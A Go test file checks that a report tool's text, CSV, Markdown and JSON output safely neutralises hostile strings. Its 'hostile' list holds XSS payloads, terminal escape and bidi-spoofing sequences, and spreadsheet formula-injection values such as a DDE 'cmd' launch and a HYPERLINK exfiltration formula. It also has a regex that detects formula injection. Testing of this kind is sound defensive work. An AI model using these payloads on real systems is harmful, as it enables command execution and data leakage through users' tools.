package report_test

import (
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"lastcall/analyze/verdict"
	"lastcall/report"
)

// hostile is text that somebody else may put into a log, a route or a source file.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `&lt;b&gt; &amp;`,
	"\x1b[2J\x1b[1;31mred\x1b[0m", "\x1b]8;;https://acme.example\a click\x1b]8;;\a", "\u009b2J", "a\bb\x7f",
	"/\u202egnp.exe", "\u2066\u2069\u200f\u061c", "zero\u200bwidth\ufeff",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://acme.example?x="&A1)`, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1", `"=1+1`, `/a;=cmd|' /C calc'!A0`, "/a; @SUM(A1)", "x\nsafe,src/main.ts,",
	"tab\there", "new\nline", "carriage\rreturn", "\r\n\r\n", "line\u2028separator", "next\u0085line",
	"| a | b |", `a\|b`, `\`, "`code`", "```\nfence", "[text](javascript:alert(1))", "![image](https://acme.example/x.png)", "# head", "**bold** _it_ ~~no~~", "<!-- -->",
	"nul\x00byte", "\xff\xfe\xc3(", "half \xf0\x9f rune", "日本語", "e\u0301\u0302", "👩‍👩‍👧", "",
	"/" + strings.Repeat("long/", 1000), " leading and trailing ", `{"json":"inside"}`, `quote " and , comma`,
}

// resultOf has every text in every place that takes one.
func resultOf(texts []string) *verdict.Result {
	r := largeResult()
	s := &r.Services[0]
	s.Name, s.Endpoints, s.Unmatched = "\x1b[1m<b>|=api", nil, nil
	for i, text := range texts {
		e := verdict.Endpoint{Key: strconv.Itoa(i) + ":" + text, Name: text, File: text, Line: 1, Tags: []string{text}}
		e.Finding = verdict.Finding{Verdict: verdict.Unused, Reasons: []string{text, text}, Bound: text}
		s.Endpoints = append(s.Endpoints, e)
		e.Key = text
		e.Verdict = verdict.SyntheticOnly
		s.Endpoints = append(s.Endpoints, e)
		e.Key = "GET:" + strconv.Itoa(i) + text
		e.Usage = verdict.Usage{Calls: 1, OK: 1, First: r.Window.Since, Last: r.Window.Since, Daily: map[string]int64{"2026-01-01": 1}}
		s.Endpoints = append(s.Endpoints, e)
		s.Unmatched = append(s.Unmatched, verdict.Unmatched{Template: text, Calls: 1, OK: 1, FirstUsed: r.Window.Since, LastUsed: r.Window.Since})
		s.Preflights = append(s.Preflights, verdict.Preflight{Path: text, Requests: 1})
		s.Shadowed = append(s.Shadowed, verdict.Shadowed{Endpoint: text, File: text, Line: 1, By: text, Reason: text})
		r.Files = append(r.Files, verdict.File{
			Path: text, Evidence: []verdict.Edge{{Kind: "mention", Target: text, File: text, Line: 1}},
			Finding: verdict.Finding{Verdict: verdict.Review, Reasons: []string{text, text}},
		})
		r.Warnings = append(r.Warnings, text)
	}
	s.Checks = append(s.Checks, verdict.Check{Name: "days", Text: "window of 7 days, 14 needed"})
	other := *s
	other.Name = "-worker"
	r.Services = append(r.Services, other)
	return r
}

func TestHostileText(t *testing.T) {
	r, harmless := resultOf(hostile), resultOf(slices.Repeat([]string{"x"}, len(hostile)))
	for view := range views {
		text := rendered(t, view, r, report.Text)
		if got, want := strings.Count(text, "\n"), strings.Count(rendered(t, view, harmless, report.Text), "\n"); got != want {
			t.Errorf("%s: the texts make %d lines of %d", view, got, want)
		}
		if !utf8.ValidString(text) {
			t.Errorf("%s: not UTF-8", view)
		}
		for _, c := range text {
			if c != '\n' && !unicode.IsPrint(c) {
				t.Errorf("%s: the text holds %U", view, c)
				break
			}
		}
	}
}

// columnsOf are the columns of each view, with that of the service.
var columnsOf = map[string]int{"stats": 13, "unused": 6, "crossref": 3}

// rowsOf are the rows of each view of the hostile Result.
var rowsOf = map[string]int{"stats": 2 * len(hostile), "unused": 6 * len(hostile), "crossref": len(hostile)}

// formula finds what a spreadsheet runs at the start of a cell, also of one that a semicolon starts.
var formula = regexp.MustCompile(`(?:^|;)[\s"]*[=+\-@|]`)

func TestHostileCSV(t *testing.T) {
	r := resultOf(hostile)
	for view := range views {
		text := rendered(t, view, r, report.CSV)
		if n := strings.Count(text, "\n"); n != 1+rowsOf[view] {
			t.Errorf("%s: %d lines, want %d", view, n, 1+rowsOf[view])
		}
		noneHidden(t, view, text)
		records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", view, err)
			continue
		}
		if len(records) != 1+rowsOf[view] {
			t.Errorf("%s: %d rows, want %d", view, len(records)-1, rowsOf[view])
		}
		for _, record := range records {
			if len(record) != columnsOf[view] {
				t.Errorf("%s: %d cells, want %d: %q", view, len(record), columnsOf[view], record)
			}
			for _, cell := range record {
				if _, err := strconv.ParseFloat(cell, 64); err != nil && formula.MatchString(cell) {
					t.Errorf("%s: a spreadsheet runs %q", view, cell)
				}
			}
		}
	}
}

// markdownCell is what lies between two borders: anything but a border, or an escaped character.
var markdownCell = regexp.MustCompile(`(?:\\.|[^\\|])*\|`)

func TestHostileMarkdown(t *testing.T) {
	r := resultOf(hostile)
	for view := range views {
		text := rendered(t, view, r, report.Markdown)
		rows := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
		if len(rows) != 2+rowsOf[view] {
			t.Errorf("%s: %d rows, want %d", view, len(rows)-2, rowsOf[view])
		}
		for _, row := range rows {
			// One border opens the row, and one ends every cell.
			if n := len(markdownCell.FindAllString(row, -1)) - 1; n != columnsOf[view] || !strings.HasSuffix(row, " |") {
				t.Errorf("%s: %d cells, want %d: %.200q", view, n, columnsOf[view], row)
			}
		}
		for _, c := range text {
			if c != '\n' && !unicode.IsPrint(c) || c == '<' || c == '>' {
				t.Errorf("%s: the Markdown holds %U", view, c)
				break
			}
		}
		for _, markup := range []string{"://", "www.", "**", "~~"} {
			if strings.Contains(text, markup) {
				t.Errorf("%s: the Markdown holds %q", view, markup)
			}
		}
		if unescaped := regexp.MustCompile("(?:^|[^\\\\])(?:\\\\\\\\)*[`*_\\[\\]#~]").FindString(text); unescaped != "" {
			t.Errorf("%s: markup is not escaped at %q", view, unescaped)
		}
	}
}

// TestHostileJSON: every text comes back as it was, but for bytes that are no UTF-8.
func TestHostileJSON(t *testing.T) {
	r := resultOf(hostile)
	var doc struct {
		Files []struct {
			Path     string   `json:"path"`
			Reasons  []string `json:"reasons"`
			Evidence []struct {
				Target string `json:"target"`
				File   string `json:"file"`
			} `json:"evidence"`
		} `json:"files"`
		Warnings []string `json:"warnings"`
	}
	if err := json.Unmarshal([]byte(rendered(t, "crossref", r, report.JSON)), &doc); err != nil {
		t.Fatal(err)
	}
	for i, text := range hostile {
		want := string([]rune(text)) // each stray byte is U+FFFD
		f := doc.Files[i]
		for _, got := range []string{f.Path, f.Reasons[0], f.Reasons[1], f.Evidence[0].Target, f.Evidence[0].File, doc.Warnings[i]} {
			if got != want {
				t.Errorf("%.60q came back as %.60q", text, got)
			}
		}
	}
	for view := range views {
		text := rendered(t, view, r, report.JSON)
		if !json.Valid([]byte(text)) {
			t.Errorf("%s: not JSON", view)
		}
		noneHidden(t, view, text)
	}
}

// noneHidden: text for other programs is looked at in terminals, too.
func noneHidden(t *testing.T, view, text string) {
	t.Helper()
	for _, c := range text {
		if c != '\n' && unicode.In(c, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp) {
			t.Errorf("%s: %U is written as it is", view, c)
			return
		}
	}
}
